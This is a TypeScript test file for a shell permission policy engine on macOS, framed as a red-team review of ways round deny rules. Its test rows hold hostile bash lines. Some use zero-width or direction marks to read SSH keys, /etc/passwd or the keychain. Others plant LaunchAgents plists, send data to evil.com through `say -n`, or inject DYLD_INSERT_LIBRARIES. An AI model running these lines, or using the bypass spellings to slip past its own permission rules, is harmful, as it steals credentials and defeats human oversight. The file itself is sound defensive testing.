// A red-team review of bash lines on macOS: each row was allowed beside the deny rule it meets
// (Shell(*), Read(/**) and Edit(/**) allowed). Families already closed before it: LOOBins and
// plist tools, `open`, the /private, /System/Volumes/Data and /Volumes/NAME spellings, case and
// full case folding, ..namedfork, proxies and mounts.
import { describe, it } from 'vitest';
import type { DecisionContext, DecisionKind } from '../src/policy/types.js';
import { expectDecision } from './helpers/policy.js';

const DARWIN: DecisionContext = { cwd: '/Users/dev/w', workspace: ['/Users/dev/w'], home: '/Users/dev', platform: 'darwin' };
const RULES = {
  deny: ['Read(//etc/**)', 'Edit(//etc/**)', 'Read(~/.ssh/**)', 'Edit(~/Library/LaunchAgents/**)', 'Read(~/Library/Keychains/**)', 'Domain(evil.com)'],
  allow: ['Shell(*)', 'Read(/**)', 'Edit(/**)', 'Domain(*)'],
};

describe('bash lines on macOS', () => {
  it.each<[string, 'shell' | 'read' | 'edit', string, DecisionKind]>([
    // HFS+ leaves zero-width and direction marks out of names: `.s\u200Csh` opens `.ssh` there.
    ['HFS+ ignored', 'shell', 'cat ~/.s\u200Csh/id_rsa', 'ask'],
    ['HFS+ ignored', 'shell', 'cat /e\u200Dtc/passwd', 'ask'],
    ['HFS+ ignored', 'shell', 'cp x ~/Library/LaunchAgents\uFEFF/x.plist', 'ask'],
    ['HFS+ ignored', 'shell', 'cat ~/Library/Key\u202Echains/login.keychain-db', 'ask'],
    ['HFS+ ignored', 'shell', 'base64 /Users/dev/.ssh\u200E/id_rsa', 'ask'],
    ['HFS+ ignored', 'shell', 'touch /Users/dev/Library/\u206ALaunchAgents/x.plist', 'ask'],
    // say sends its speech to `-n HOST[:PORT]`, reads `-f FILE` and writes `-o FILE`.
    ['say', 'shell', 'say -n evil.com:1234 hello', 'deny'],
    ['say', 'shell', 'say --network-send=evil.com hello', 'deny'],
    ['say', 'shell', 'say --net evil.com:80 -f notes.txt', 'deny'],
    ['say', 'shell', 'say -nevil.com:80 hello', 'deny'],
    ['say', 'shell', 'say -n "$HOST" hello', 'ask'],
    ['say', 'shell', 'say -f "$x"', 'ask'],
    ['say', 'shell', 'say -o ~/Library/LaunchAgents/x.plist hi', 'deny'],
    ['say', 'shell', 'say --input-file=/etc/passwd', 'deny'],
    ['precision', 'shell', 'say -n :1234 hello', 'allow'],
    ['precision', 'shell', 'say -v Alex -o out.aiff "build done"', 'allow'],
    ['precision', 'shell', 'say -f - < notes.txt', 'allow'],
    // Still allowed: other non-ASCII names, and these marks where no deny or ask rule is.
    ['precision', 'shell', 'cat caf\u00E9.txt', 'allow'],
    // (The cost: a Persian name with a zero-width non-joiner asks too where such rules exist.)
    ['cost', 'shell', 'cat \u0635\u200C.txt', 'ask'],
    ['cost', 'read', '/Users/dev/w/\u0635\u200C.txt', 'ask'],
    ['precision', 'shell', 'git status', 'allow'],
  ])('%s: %s %s is %s', (_family, kind, subject, expected) => {
    expectDecision(RULES, kind, subject, expected, DARWIN);
  });
});

// installer, profiles and launchctl setenv do what the line does not show (darwin-installers.ts):
// each was allowed under Shell(*) whatever the deny rules.
describe('macOS installers and launchd settings ask (were allowed)', () => {
  it.each<[string, DecisionKind]>([
    ['installer -pkg x.pkg -target /', 'ask'], ['sudo installer -package ./x.pkg -target /', 'ask'], ['installer -pkg "$p" -target /', 'ask'],
    ['profiles install -path x.mobileconfig', 'ask'], ['profiles -I -F x.mobileconfig', 'ask'],
    ['launchctl setenv DYLD_INSERT_LIBRARIES /tmp/x.dylib', 'ask'], ['launchctl config user path /tmp', 'ask'],
    // Precision: queries and listings.
    ['installer -pkginfo -pkg x.pkg', 'allow'], ['installer -volinfo -pkg x.pkg', 'allow'], ['profiles list', 'allow'], ['launchctl list', 'allow'],
    ['launchctl getenv PATH', 'allow'],
  ])('%s -> %s', (line, expected) => {
    expectDecision(RULES, 'shell', line, expected, DARWIN);
  });
});
